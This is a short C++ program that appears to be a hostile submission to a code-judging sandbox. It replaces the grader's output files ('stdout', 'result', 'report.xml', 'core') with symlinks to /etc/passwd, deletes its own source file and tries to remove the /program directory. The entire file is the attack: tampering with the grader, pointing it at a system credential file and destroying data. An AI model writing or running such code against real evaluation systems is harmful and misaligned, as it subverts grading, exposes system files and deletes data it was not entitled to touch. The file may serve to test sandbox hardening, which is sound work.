#include <cstdio>
#include <cstdlib>
#include <unistd.h>

int main()
{
    for (const char *name : {"stdout", "result", "report.xml", "core"}) {
        unlink(name);
        if (symlink("/etc/passwd", name) != 0)
            std::perror(name);
    }
    unlink("/program/main.cpp");
    std::puts(chdir("/") == 0 && rmdir("/program") == 0 ? "gone" : "still there");
    std::quick_exit(0);
}
